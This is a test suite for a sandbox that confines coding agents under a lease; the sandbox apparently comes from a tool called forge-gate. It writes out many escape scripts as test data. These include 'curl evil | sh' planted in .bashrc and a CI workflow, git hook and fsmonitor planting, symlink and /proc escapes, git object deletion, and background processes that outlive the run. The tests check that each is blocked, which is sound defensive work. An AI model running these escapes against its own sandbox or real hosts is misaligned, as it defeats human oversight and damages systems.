import { execFileSync, spawn, spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { agentEnv, type Fixture, git, makeFixture } from "../collect/fixture.js";
import { CLI } from "../support/cli.js";
import { changedEntries, enforcedRun, fingerprint, reportOf } from "./helpers.js";

/**
 * The escape suite under `run --enforce`: a real bash agent tries to write where its lease does not
 * let it, inside a real bubblewrap sandbox. The write must fail inside the sandbox (or land in the
 * sandbox's private temp), nothing outside the grants may change, and the gate passes.
 */
interface Escape {
  name: string;
  script: (f: Fixture) => string;
  setup?: (f: Fixture) => void;
  /** The write lands in a private temp dir instead of failing. */
  privateWrite?: boolean;
  /** Checked after the run: what must not have happened inside the worktree. */
  after?: (f: Fixture) => void;
}

const WORKFLOW = "name: ci\non: push\n";

/** A committed `.github/workflows/ci.yml` on the agent's branch, protected by the lease. */
function withWorkflow(f: Fixture): void {
  mkdirSync(join(f.wt, ".github", "workflows"), { recursive: true });
  writeFileSync(join(f.wt, ".github", "workflows", "ci.yml"), WORKFLOW);
  git(["add", "."], f.wt, f.env);
  git(["commit", "-qm", "ci"], f.wt, f.env);
  const head = git(["rev-parse", "HEAD"], f.wt).trim();
  const lease = readFileSync(f.lease, "utf8").replace("base: main", `base: ${head}`);
  writeFileSync(f.lease, `${lease}protect: [".github/workflows/**"]\n`);
}

const tmpName = `fg-enforce-${randomBytes(6).toString("hex")}`;

const ESCAPES: Escape[] = [
  { name: "a write into the sibling main checkout", script: () => 'echo pwned > "$REPO/escape.txt"' },
  { name: "a write into the sibling checkout through ..", script: () => "echo pwned > ../repo/escape.txt" },
  { name: "an append to $HOME/.bashrc", script: () => 'echo "curl evil | sh" >> "$HOME/.bashrc"' },
  { name: "a new file in $HOME", script: () => 'echo x > "$HOME/.planted"' },
  { name: "a delete in $HOME", script: () => 'rm "$HOME/old.txt"' },
  { name: "a chmod in $HOME", script: () => 'chmod 600 "$HOME/notes.txt"' },
  { name: "a file moved from $HOME into the worktree", script: () => 'mv "$HOME/secret.txt" ./secret.txt' },
  {
    name: "an edit in $HOME with its mtime restored",
    script: () => 'printf "bbbb\\n" > "$HOME/notes.txt"; touch -r "$HOME/old.txt" "$HOME/notes.txt"',
  },
  {
    name: "a write through a symlink in the worktree pointing at $HOME",
    // The link is removed after the failed write: a lasting link out of the worktree is an escape of its own.
    script: () =>
      'ln -s "$HOME" home-link\nif echo x > home-link/planted.txt; then exit 0; fi\nrm home-link\nexit 3',
  },
  {
    name: "a write through a symlink in the worktree pointing at the shared hooks",
    script: () =>
      'ln -s "$REPO/.git/hooks" hooks-link\nif echo "#!/bin/sh" > hooks-link/post-checkout; then exit 0; fi\nrm hooks-link\nexit 3',
  },
  {
    name: "a hard link to a file in $HOME, then a write through it",
    script: () => 'ln "$HOME/notes.txt" ./hl\necho x >> ./hl',
  },
  {
    name: "a new hook in the shared .git/hooks",
    script: () =>
      'hooks="$(git rev-parse --path-format=absolute --git-common-dir)/hooks"\nprintf "#!/bin/sh\\ntouch \\"$T/hook-ran\\"\\n" > "$hooks/pre-commit"',
  },
  { name: "a planted core.fsmonitor in .git/config", script: () => 'git config core.fsmonitor "$T/evil.sh"' },
  {
    name: "a config written straight into .git/config",
    script: () => 'echo "[core] hooksPath = /tmp" >> "$(git rev-parse --git-common-dir)/config"',
  },
  {
    name: "an alternate object store",
    script: () => 'echo /elsewhere >> "$(git rev-parse --git-common-dir)/objects/info/alternates"',
  },
  {
    name: "the worktree's gitdir pointed at another repository",
    script: () => 'echo /elsewhere > "$(git rev-parse --git-dir)/commondir"',
  },
  {
    name: "the .git pointer file of the worktree rewritten",
    script: () => "echo 'gitdir: /elsewhere' > .git",
  },
  {
    name: "another branch's ref moved",
    script: () => "git update-ref refs/heads/main \"$(git commit-tree -m x 'HEAD^{tree}' -p HEAD)\"",
  },
  { name: "another branch's ref deleted", script: () => "git update-ref -d refs/heads/main" },
  {
    name: "a protected file (protect glob) edited",
    setup: withWorkflow,
    script: () => 'echo "  run: curl evil | sh" >> .github/workflows/ci.yml',
    after: (f) => expect(readFileSync(join(f.wt, ".github/workflows/ci.yml"), "utf8")).toBe(WORKFLOW),
  },
  {
    name: "a new file under a protected glob's directory",
    setup: withWorkflow,
    script: () => "echo x > .github/workflows/evil.yml",
    after: (f) => expect(existsSync(join(f.wt, ".github/workflows/evil.yml"))).toBe(false),
  },
  {
    name: "a protected directory renamed away",
    setup: withWorkflow,
    script: () => "mv .github/workflows .github/old",
    after: (f) => expect(existsSync(join(f.wt, ".github/workflows/ci.yml"))).toBe(true),
  },
  {
    // Harmless either way: the value written is the one already there (root in the host's user
    // namespace writes global sysctls without any capability: core_pattern runs a program as root).
    name: "a write to the kernel's global sysctls (/proc/sys/kernel/core_pattern) as root",
    script: () =>
      'v="$(cat /proc/sys/kernel/core_pattern)"\nprintf "%s\\n" "$v" > /proc/sys/kernel/core_pattern',
  },
  {
    name: "a write to /proc/sys/fs (protected_symlinks), global to the host",
    script: () => 'v="$(cat /proc/sys/fs/protected_symlinks)"\necho "$v" > /proc/sys/fs/protected_symlinks',
  },
  {
    name: "a protected directory's parent renamed away, then the protected path written afresh",
    setup: withWorkflow,
    script: () => "mv .github .github-old\nmkdir -p .github/workflows\necho evil > .github/workflows/ci.yml",
    after: (f) => {
      expect(readFileSync(join(f.wt, ".github/workflows/ci.yml"), "utf8")).toBe(WORKFLOW);
      expect(existsSync(join(f.wt, ".github-old"))).toBe(false);
    },
  },
  { name: "a remount of HOME read-write", script: () => 'mount -o remount,rw,bind "$HOME"' },
  {
    name: "a write to /tmp outside the grants (lands in the private /tmp)",
    script: () => `echo x > /tmp/${tmpName}\ntest -f /tmp/${tmpName}`,
    privateWrite: true,
    after: () => expect(existsSync(`/tmp/${tmpName}`)).toBe(false),
  },
  {
    name: "a write to $TMPDIR (private)",
    script: () => 'echo x > "$TMPDIR/scratch"',
    privateWrite: true,
  },
  {
    name: "a write to /dev/shm (private)",
    script: () => `echo x > /dev/shm/${tmpName}`,
    privateWrite: true,
    after: () => expect(existsSync(`/dev/shm/${tmpName}`)).toBe(false),
  },
];

describe("run --enforce: every escape fails inside the sandbox, nothing outside changes, the gate passes", () => {
  for (const e of ESCAPES) {
    it(e.name, () => {
      const f = makeFixture();
      e.setup?.(f);
      // Outside the grants: the whole fixture but the worktree, the agent script, the snapshots and the
      // object store (git's bookkeeping, writable by design; the gate checks every new object).
      const skip = [f.wt, join(f.T, "agent.sh"), f.snaps, join(f.repo, ".git", "objects")];
      const before = fingerprint(f.T, skip);
      const r = enforcedRun(f, e.script(f));
      const report = reportOf({ ...r, stdoutBytes: Buffer.from(r.stdout) });
      expect(report.enforced, r.stderr).toBe(true);
      if (e.privateWrite) expect(report.command.exit_code, r.stderr).toBe(0);
      else expect(report.command.exit_code, `the write went through:\n${r.stderr}`).not.toBe(0);
      expect(changedEntries(before, fingerprint(f.T, skip))).toEqual([]);
      expect(report.violations).toEqual([]);
      expect(report.verdict).toBe("pass");
      expect(r.status, r.stderr).toBe(0);
      e.after?.(f);
    });
  }
});

describe("the process tree dies with the sandbox", () => {
  const lateWriter = (f: Fixture) =>
    `env -i /usr/bin/setsid /bin/sh -c 'sleep 2; echo late > ${f.wt}/late.txt' </dev/null >/dev/null 2>&1 &\nsleep 0.5`; // (the pause lets env -i exec away the run's mark before the run ends)

  it.each([
    ["--enforce", ["--enforce"]],
    ["the default capture layer", []],
  ])("a background process that left the group and dropped the run's mark is killed (%s)", (_what, flags) => {
    const f = makeFixture();
    const r = enforcedRun(f, lateWriter(f), flags);
    expect(reportOf(r).command.exit_code, r.stderr).toBe(0);
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 3000);
    expect(existsSync(join(f.wt, "late.txt"))).toBe(false);
  });

  it("control: detection only (no namespace), the same process survives the run and writes later", () => {
    const f = makeFixture();
    const r = enforcedRun(f, lateWriter(f), ["--attribution", "none"]);
    expect(r.status, r.stderr).toBe(0);
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 3000);
    expect(existsSync(join(f.wt, "late.txt"))).toBe(true);
  });
});

describe("what gets through is still judged", () => {
  it("a protected path created after the start (detection-only) is an escape, with enforced: true", () => {
    const f = makeFixture({ leaseExtra: 'protect: ["secrets/**"]\n' });
    const r = enforcedRun(f, "mkdir secrets\necho key > secrets/id_rsa");
    const report = reportOf({ ...r, stdoutBytes: Buffer.from(r.stdout) });
    expect(report.enforced).toBe(true);
    expect(report.enforcement?.detection_only.join("\n")).toMatch(/protected paths created after the start/);
    expect(report.verdict).not.toBe("pass"); // "escape" (or "refused" in newer report contracts)
    expect(report.violations.map((v) => v.path)).toContain(join(f.wt, "secrets", "id_rsa"));
    expect(r.status).toBe(1);
  });

  it("a symlink left in the worktree pointing outside: the write through it fails, the link itself is still refused", () => {
    const f = makeFixture();
    const r = enforcedRun(f, 'ln -s "$HOME" home-link\necho x > home-link/planted.txt || true');
    const report = reportOf({ ...r, stdoutBytes: Buffer.from(r.stdout) });
    expect(report.enforced).toBe(true);
    expect(existsSync(join(f.home, "planted.txt"))).toBe(false);
    expect(report.violations).toContainEqual(
      expect.objectContaining({ path: join(f.wt, "home-link"), reason: "symlink_escape" }),
    );
    expect(r.status).toBe(1);
  });

  it("detection only, the same writes escape (the suite's scripts really write)", () => {
    const f = makeFixture();
    const r = enforcedRun(f, 'echo pwned > "$REPO/escape.txt"\necho x >> "$HOME/.bashrc"', [
      "--attribution",
      "none",
    ]);
    expect(r.status, r.stderr).toBe(1);
    expect(execFileSync("cat", [join(f.repo, "escape.txt")], { encoding: "utf8" })).toBe("pwned\n");
  });

  it("by default (the capture layer) the same writes are refused, named, and kept off the host", () => {
    const f = makeFixture();
    const r = enforcedRun(f, 'echo pwned > "$REPO/escape.txt"\necho x >> "$HOME/.bashrc"', []);
    expect(r.status, r.stderr).toBe(1);
    const report = reportOf(r) as ReturnType<typeof reportOf> & { attribution: string };
    expect(report.attribution).toBe("capture");
    expect(report.violations.map((v) => v.path).sort()).toEqual([
      join(f.home, ".bashrc"),
      join(f.repo, "escape.txt"),
    ]);
    expect(existsSync(join(f.repo, "escape.txt"))).toBe(false);
    expect(readFileSync(join(f.home, ".bashrc"), "utf8")).toBe("# rc\n");
  });
});

describe("the repository's existing objects survive the agent (objects/ is writable for new ones)", () => {
  const destroy = [
    'o="$(git rev-parse --path-format=absolute --git-common-dir)/objects"',
    'for p in "$o"/pack/*; do rm -f "$p" || echo "kept $p"; done',
    'for x in "$o"/[0-9a-f][0-9a-f]/*; do rm -f "$x" || echo "kept $x"; done',
    'for x in "$o"/[0-9a-f][0-9a-f]/*; do mv -f "$x" "$x.gone" || echo "kept $x"; done',
    'for p in "$o"/pack/*.pack; do : > "$p" || echo "kept $p"; done',
    // renaming the directory holding them moves the read-only files out of git's sight
    'mv "$o/pack" "$o/pack.old" || echo "kept $o/pack"',
    'for d in "$o"/[0-9a-f][0-9a-f]; do mv "$d" "$d.old" || echo "kept $d"; done',
    'test -z "$(ls "$o"/pack)" || test -z "$(ls "$o"/[0-9a-f][0-9a-f])"',
  ].join("\n");

  it("deleting, renaming or truncating the packs and loose objects fails; history stays intact", () => {
    const f = makeFixture();
    git(["gc", "-q"], f.repo, f.env); // history in a pack
    writeFileSync(join(f.repo, "more.txt"), "more\n");
    git(["add", "more.txt"], f.repo, f.env);
    git(["commit", "-qm", "more"], f.repo, f.env); // and some loose objects
    const objects = join(f.repo, ".git", "objects");
    const before = fingerprint(objects, []);
    const r = enforcedRun(f, destroy);
    const report = reportOf({ ...r, stdoutBytes: Buffer.from(r.stdout) });
    expect(report.enforced, r.stderr).toBe(true);
    expect(report.command.exit_code, `objects were destroyed:\n${r.stderr}`).not.toBe(0);
    expect(changedEntries(before, fingerprint(objects, []))).toEqual([]);
    git(["fsck", "--strict", "--no-dangling"], f.repo, f.env);
    expect(r.status, r.stderr).toBe(0);
  });

  it("commits on the agent's own branch still write new objects (and git repack writes a new pack)", () => {
    const f = makeFixture();
    git(["gc", "-q"], f.repo, f.env);
    const r = enforcedRun(
      f,
      "echo new > new.txt\ngit add new.txt\ngit commit -qm new\ngit repack -q\ngit cat-file -e HEAD",
    );
    const report = reportOf({ ...r, stdoutBytes: Buffer.from(r.stdout) });
    expect(report.command.exit_code, r.stderr).toBe(0);
    expect(git(["log", "--format=%s", "-1", "agent"], f.repo)).toBe("new\n");
  });
});

/**
 * `run --enforce` on the fixture's agent.sh, started by a bash that first runs `prelude` (with `args`
 * as $1…): how a caller's shell leaves descriptors and redirections to forge-gate.
 */
function enforcedRunFromShell(f: Fixture, prelude: string, args: string[]) {
  const cli = [CLI, "run", "--lease", f.lease, ...f.rootFlags, "--format", "json", "--enforce"];
  return spawnSync(
    "bash",
    [
      "-c",
      `${prelude}; shift ${args.length}; exec "$@"`,
      "bash",
      ...args,
      process.execPath,
      ...cli,
      "--",
      "bash",
      join(f.T, "agent.sh"),
    ],
    { cwd: f.wt, env: agentEnv(f), encoding: "utf8" },
  );
}

describe("file descriptors the caller left open do not reach the sandbox", () => {
  it("a writable descriptor to a file outside the grants, inherited by forge-gate, is closed", () => {
    const f = makeFixture();
    const outside = join(f.T, "outside.log");
    writeFileSync(outside, "orig\n");
    writeFileSync(join(f.T, "agent.sh"), "set -u\nexec 1>&2\necho leaked >&200\n");
    // The caller (a CI runner, a shell) opened fd 200 without close-on-exec and then ran forge-gate.
    const r = enforcedRunFromShell(f, 'exec 200>>"$1"', [outside]);
    const report = reportOf({ ...r, stdoutBytes: Buffer.from(r.stdout) });
    expect(report.enforced, r.stderr).toBe(true);
    expect(readFileSync(outside, "utf8")).toBe("orig\n");
    expect(report.command.exit_code, r.stderr).not.toBe(0);
  });
});

describe("host processes are out of reach through /proc", () => {
  it("the cwd and root of a host process (a rw view of the host) are not reachable from the sandbox", () => {
    const f = makeFixture();
    const hostDir = join(f.T, "host-cwd");
    mkdirSync(hostDir);
    // A host process whose cwd is outside the grants: /proc/<pid>/cwd would be a writable way there.
    const host = spawn("sleep", ["30"], { cwd: hostDir, stdio: "ignore" });
    try {
      const script = [
        // (the sandbox's own processes have the worktree as cwd: writing there is allowed)
        `for p in /proc/[0-9]*; do echo x > "$p/cwd/pwned" || true; echo x > "$p/root${hostDir}/pwned2" || true; done 2>/dev/null`,
        `test -e /proc/${host.pid}/cwd && echo "host pid ${host.pid} visible"`,
        "true",
      ].join("\n");
      const r = enforcedRun(f, script);
      expect(reportOf(r).command.exit_code, r.stderr).toBe(0);
      expect(existsSync(join(hostDir, "pwned")), r.stderr).toBe(false);
      expect(existsSync(join(hostDir, "pwned2")), r.stderr).toBe(false);
      expect(r.stderr).not.toMatch(/host pid \d+ visible/);
    } finally {
      host.kill();
    }
  });
});

describe("detection-only git classes are still refused by the gate", () => {
  it("a sibling branch kept only in packed-refs, moved by a new loose ref (no file to bind read-only)", () => {
    const f = makeFixture();
    git(["branch", "release"], f.repo, f.env);
    git(["pack-refs", "--all"], f.repo, f.env);
    rmSync(join(f.repo, ".git", "logs", "refs", "heads", "release"));
    const before = git(["rev-parse", "release"], f.repo).trim();
    const r = enforcedRun(
      f,
      "git update-ref refs/heads/release \"$(git commit-tree -m evil 'HEAD^{tree}' -p HEAD)\"",
    );
    const report = reportOf({ ...r, stdoutBytes: Buffer.from(r.stdout) });
    expect(report.enforced, r.stderr).toBe(true);
    expect(report.enforcement?.detection_only.join("\n")).toMatch(
      /shadowing a branch kept only in packed-refs/,
    );
    expect(git(["rev-parse", "release"], f.repo).trim()).not.toBe(before); // got through the sandbox…
    expect(report.verdict).not.toBe("pass"); // …and the gate refuses it
    expect(r.status, r.stderr).toBe(1);
  });
});

describe("stdio that is a host file cannot be reopened for writing through /proc/self/fd", () => {
  it("stdin redirected from a file outside the grants is not writable through /proc/self/fd/0; the input still arrives", () => {
    const f = makeFixture();
    const prompt = join(f.T, "prompt.txt");
    writeFileSync(prompt, "fix issue 47\n");
    const log = join(f.T, "agent.log");
    writeFileSync(log, "");
    writeFileSync(
      join(f.T, "agent.sh"),
      [
        "set -u",
        'read -r line; echo "got: $line" > got.txt',
        // /proc/self/fd/N reopens the file on the host's own (writable) mount, not the sandbox's
        "if echo EVIL > /proc/self/fd/0; then exit 9; fi",
        "echo to-stdout",
        "echo to-stderr >&2",
        // stderr is the operator's log file: reopened with O_TRUNC it would be emptied
        "echo EVIL > /proc/self/fd/2 || true",
      ].join("\n"),
    );
    const r = enforcedRunFromShell(f, 'exec < "$1" 2>>"$2"', [prompt, log]);
    expect(readFileSync(prompt, "utf8")).toBe("fix issue 47\n");
    expect(readFileSync(join(f.wt, "got.txt"), "utf8")).toBe("got: fix issue 47\n");
    expect(readFileSync(log, "utf8")).toContain("to-stderr\n");
    // the agent's stdout goes to forge-gate's stderr (the log file here); stdout is the report alone
    expect(readFileSync(log, "utf8")).toContain("to-stdout\n");
    const report = reportOf({ ...r, stdoutBytes: Buffer.from(r.stdout) });
    expect(report.command.exit_code, readFileSync(log, "utf8")).toBe(0);
  });
});
